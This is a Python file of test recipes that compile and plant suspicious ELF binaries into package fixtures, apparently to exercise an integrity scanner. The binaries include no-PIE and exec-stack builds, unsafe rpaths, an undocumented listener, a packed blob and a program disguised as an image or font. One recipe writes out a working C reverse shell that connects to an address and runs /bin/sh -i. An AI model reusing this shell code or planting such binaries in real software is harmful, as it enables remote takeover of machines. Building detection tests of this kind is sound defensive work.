"""Recipes for checks of programs."""
from program import elf
from recipe import plants


@plants("integrity.no-pie", "deb", "tree")
def no_pie(r, host):
    host.put(f"usr/bin/{r.name()}", elf(f"#include <stdio.h>\nint main(void) {{ puts(\"{r.letters(20)}\"); return 0; }}", "-no-pie", "-fno-pie", "-fstack-protector-strong"), 0o755)


@plants("integrity.weak-segments", "deb", "tree")
def weak_segments(r, host):
    host.put(f"usr/bin/{r.name()}", elf(f"#include <stdio.h>\nint main(void) {{ puts(\"{r.letters(20)}\"); return 0; }}", r.choice(("-Wl,-z,execstack", "-Wl,-z,norelro"))), 0o755)


@plants("integrity.library-path", "deb", "tree")
def library_path(r, host):
    host.put(f"usr/bin/{r.name()}", elf("int main(void) { return 0; }", "-Wl,-rpath," + r.choice((".", "/tmp/lib", "/home/" + r.word() + "/lib", "build/lib"))), 0o755)


@plants("integrity.undocumented-listener", "deb", unlike="http server network web socket proxy daemon service net hostname host domain dns")
def listener(r, host):
    host.put(f"usr/{r.choice(('bin', 'sbin'))}/{r.name()}", elf(f"""
#include <arpa/inet.h>
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {{
	struct sockaddr_in a = {{AF_INET, {r.randint(1024, 60000)}, {{0}}, {{0}}}}, b;
	socklen_t n = sizeof b;
	int s = socket(AF_INET, SOCK_STREAM, 0);
	{r.choice(("", f'a.sin_addr.s_addr = inet_addr("0.0.0.0");', 'struct addrinfo *i; if (getaddrinfo(0, "4711", 0, &i) == 0) memcpy(&a, i->ai_addr, sizeof a);'))}
	bind(s, (void *)&a, sizeof a);
	listen(s, 5);
	for (;;) {{ int c = accept(s, (void *)&b, &n); {r.choice(("", "puts(inet_ntoa(b.sin_addr));"))} write(c, "hello", 5); close(c); }}
}}"""), 0o755)


@plants("integrity.program-remote-shell", "deb", "tree", unlike="network remote terminal netcat daemon server proxy socket login")
def program_remote_shell(r, host):
    shell = r.choice(("/bin/sh", "/bin/bash"))
    host.put(f"usr/bin/{r.name()}", elf(f"""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
int main(void) {{
	struct sockaddr_in a = {{.sin_family = AF_INET, .sin_port = htons({r.randint(1024, 60000)})}};
	inet_pton(AF_INET, "{r.address()}", &a.sin_addr);
	int s = socket(AF_INET, SOCK_STREAM, 0);
	connect(s, (void *)&a, sizeof a);
	dup2(s, 0); dup2(s, 1); dup2(s, 2);
	{r.choice((f'execl("{shell}", "sh", "-i", (char *)0);', f'char *v[] = {{"{shell}", 0}}; execve(v[0], v, 0);'))}
	return 0;
}}"""), 0o755)


@plants("integrity.packed-program", "tree")
def packed(r, host):
    import os
    blob = bytes(r.randrange(256) for _ in range(60000))
    host.put("blob.bin", blob)
    data = elf(f'__asm__(".section .text\\n.incbin \\"{os.fspath(host.dir)}/blob.bin\\"\\n.globl _start\\n_start: jmp _start");', "-nostdlib", "-static", "-Wl,-z,execstack", "-Wl,-N")
    (host.dir / "blob.bin").unlink()
    host.put(f"bin/{r.name()}", data, 0o755)


@plants("integrity.disguised-program", "npm", "deb")
def disguised(r, host):
    data = elf("int main(void) { return 0; }")
    host.put(r.choice(("data/notice", "share/logo", "assets/font", "images/icon")) + r.choice((".png", ".txt", ".jpg", ".woff", ".rtf", ".pdf")), data, 0o755)
